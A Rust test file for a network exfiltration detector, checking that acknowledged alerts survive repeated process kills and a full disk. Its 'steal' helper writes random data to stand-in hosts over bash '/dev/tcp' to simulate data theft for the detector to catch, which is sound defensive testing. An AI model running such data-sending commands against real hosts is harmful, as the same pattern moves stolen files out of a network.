//! The database under what happens to it: a kill at any moment, a disk that is full.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on fails")]

use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use detector::alerts::search::Filter;
use detector::store::alerts::search;
use detector::store::{Store, upkeep};
use detector_tests::watch::{HOME, START, Watch, detector};
use detector_tests::{Background, Scratch, SmallDisk, Topology, poll_until, run_checked};
use serde_json::Value;

const KILLS: u64 = 50;
const SERVER: &str = "203.0.113.10";
/// What goes to the first joins its alert.
const OTHER_SERVER: &str = "198.51.100.10";

/// `detector serve` on a port of the kernel's choice.
struct Served {
    process: Background,
    address: String,
}

impl Served {
    fn start(database: &Path) -> Self {
        let mut command = Command::new(detector());
        command.args(["serve", "--listen", "127.0.0.1:0", "--db"]).arg(database);
        let process = Background::start(&mut command).unwrap();
        process.wait_for_line("listening on http://", START).unwrap();
        let output = process.output();
        let (_, rest) = output.split_once("listening on http://").unwrap();
        let address = rest.split_whitespace().next().unwrap().to_owned();
        Self { process, address }
    }
}

/// Posts a body and returns the answer, where there was a whole one.
fn post(address: &str, path: &str, token: &str, body: &str) -> Option<(u16, Value)> {
    let mut stream = TcpStream::connect(address).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    let length = body.len();
    let request = format!(
        "POST {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/x-ndjson\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    );
    stream.write_all(request.as_bytes()).ok()?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).ok()?;
    let (head, body) = answer.split_once("\r\n\r\n")?;
    let status = head.split(' ').nth(1)?.parse().ok()?;
    Some((status, serde_json::from_str(body).ok()?))
}

fn token(database: &Path) -> String {
    let mut command = Command::new(detector());
    command.args(["token", "create", "writer", "--scope", "respond", "--db"]).arg(database);
    let output = command.output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned()
        + &String::from_utf8_lossy(&output.stderr);
    let token = text.split_whitespace().find(|word| word.starts_with("dtct_"));
    token.unwrap_or_else(|| panic!("no token in {text}")).to_owned()
}

/// A record that is a theft, of a sender of its own.
fn record(number: u64) -> String {
    let [.., b, c, d] = (number as u32).to_be_bytes();
    format!(
        "{{\"timestamp\":\"2024-01-01T12:00:00Z\",\"source_ip\":\"10.{b}.{c}.{d}\",\
         \"destination_ip\":\"10.0.0.1\",\"source_port\":12345,\"destination_port\":80,\
         \"protocol\":\"TCP\",\"bytes_sent\":500000,\"bytes_received\":500,\"action\":\"allow\"}}\n"
    )
}

fn sender(number: u64) -> String {
    let [.., b, c, d] = (number as u32).to_be_bytes();
    format!("10.{b}.{c}.{d}")
}

/// Posts records until the server is gone. Returns the numbers of those that were acknowledged.
fn write_until_gone(address: &str, token: &str, from: u64, gone: &AtomicBool) -> (Vec<u64>, u64) {
    const TOGETHER: u64 = 5;
    let mut acknowledged = Vec::new();
    let mut next = from;
    while !gone.load(Ordering::Relaxed) {
        let numbers = next..next + TOGETHER;
        next += TOGETHER;
        let body: String = numbers.clone().map(record).collect();
        let Some((status, answer)) = post(address, "/api/logs?format=ndjson", token, &body) else {
            continue;
        };
        assert_eq!((status, answer["alerts"].as_u64()), (200, Some(TOGETHER)), "{answer}");
        acknowledged.extend(numbers);
    }
    (acknowledged, next)
}

#[test]
#[ignore = "runs the released program"]
fn no_acknowledged_alert_is_lost_by_a_kill() {
    let scratch = Scratch::new("kills").unwrap();
    let database = scratch.join("detector.db");
    drop(Store::open(&database).unwrap());
    let token = token(&database);
    let (mut acknowledged, mut next) = (Vec::new(), 0);
    for kill in 0..KILLS {
        let Served { mut process, address } = Served::start(&database);
        let gone = AtomicBool::new(false);
        let from = next;
        std::thread::scope(|scope| {
            let writer = scope.spawn(|| write_until_gone(&address, &token, from, &gone));
            // Somewhere in the first tenth of a second of writing, elsewhere each time.
            std::thread::sleep(Duration::from_millis(5 + kill * 37 % 95));
            process.kill().unwrap();
            gone.store(true, Ordering::Relaxed);
            let (numbers, after) = writer.join().unwrap();
            acknowledged.extend(numbers);
            next = after;
        });
    }
    assert!(acknowledged.len() as u64 > KILLS, "only {} were written", acknowledged.len());
    assert_eq!(upkeep::check(&database).unwrap(), [""; 0]);
    let stored = senders(&Store::open(&database).unwrap());
    let lost: Vec<u64> =
        acknowledged.iter().copied().filter(|number| !stored.contains(&sender(*number))).collect();
    assert!(lost.is_empty(), "{} of {} are lost: {lost:?}", lost.len(), acknowledged.len());
}

fn senders(store: &Store) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    let mut cursor = None;
    loop {
        let page =
            store.read(|connection| search(connection, &Filter::default(), cursor, 500)).unwrap();
        found.extend(page.rows.into_iter().map(|row| row.alert.src.to_string()));
        cursor = page.next;
        if cursor.is_none() {
            return found;
        }
    }
}

/// Takes what is sent to a port, connection after connection.
fn listener(topology: &Topology, port: u16) -> Background {
    let port = port.to_string();
    topology.server().spawn("ncat", ["-4", "-l", "-k", "--recv-only", &port]).unwrap()
}

fn steal(topology: &Topology, server: &str, port: u16) {
    let mut command = topology.client.command("bash");
    let upload = format!("head -c 3000000 /dev/urandom > /dev/tcp/{server}/{port}");
    run_checked(command.args(["-c", &upload])).unwrap();
}

fn alerts_told(watch: &Watch) -> usize {
    let output = watch.process.output();
    let ids: BTreeSet<String> = output
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|line| line["type"] == "alert")
        .map(|line| line["id"].to_string())
        .collect();
    ids.len()
}

#[test]
#[ignore = "needs root"]
fn a_full_disk_costs_nothing_but_what_could_not_be_stored() {
    let topology = Topology::simple().unwrap();
    let folders = Scratch::new("watch").unwrap();
    let disk = SmallDisk::mount(&folders.join("state")).unwrap();
    let database = folders.join("state/detector.db");
    let _sinks = [listener(&topology, 4_001), listener(&topology, 4_002)];
    let device = [Topology::CLIENT_INTERFACE];
    let mut watch = Watch::start_in(folders, &topology.client, &device, &[], HOME);
    disk.fill().unwrap();
    steal(&topology, SERVER, 4_001);
    // It is told all the same.
    poll_until(START, || (alerts_told(&watch) == 1).then_some(())).unwrap();
    let written = |count: usize| {
        let store = Store::open_existing(&database).ok()?;
        let found =
            store.read(|connection| search(connection, &Filter::default(), None, 50)).ok()?;
        (found.total == count).then_some(())
    };
    watch.process.wait_for_line("failed to write to the database (disk full)", START).unwrap();
    // What could not be stored then is stored now.
    disk.free().unwrap();
    poll_until(START, || written(1)).unwrap();
    disk.fill().unwrap();
    steal(&topology, OTHER_SERVER, 4_002);
    poll_until(START, || (alerts_told(&watch) == 2).then_some(())).unwrap();
    let started = Instant::now();
    watch.process.terminate().unwrap();
    assert!(watch.process.wait(START).unwrap().success());
    assert!(started.elapsed() < Duration::from_secs(15), "it waited for a disk that is full");
    let text = watch.process.output();
    let mut lines = text.lines().rev().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let summary = lines.find(|line| line["type"] == "summary").unwrap();
    let missed = summary["counters"]["alerts_not_stored"].as_u64();
    assert!(missed.is_some_and(|missed| missed > 0), "{summary}");
    assert_eq!(summary["unaccounted_bytes"], 0);
    disk.free().unwrap();
    poll_until(START, || written(1)).unwrap();
    let folders = watch.kill();
    drop(disk);
    drop(folders);
}
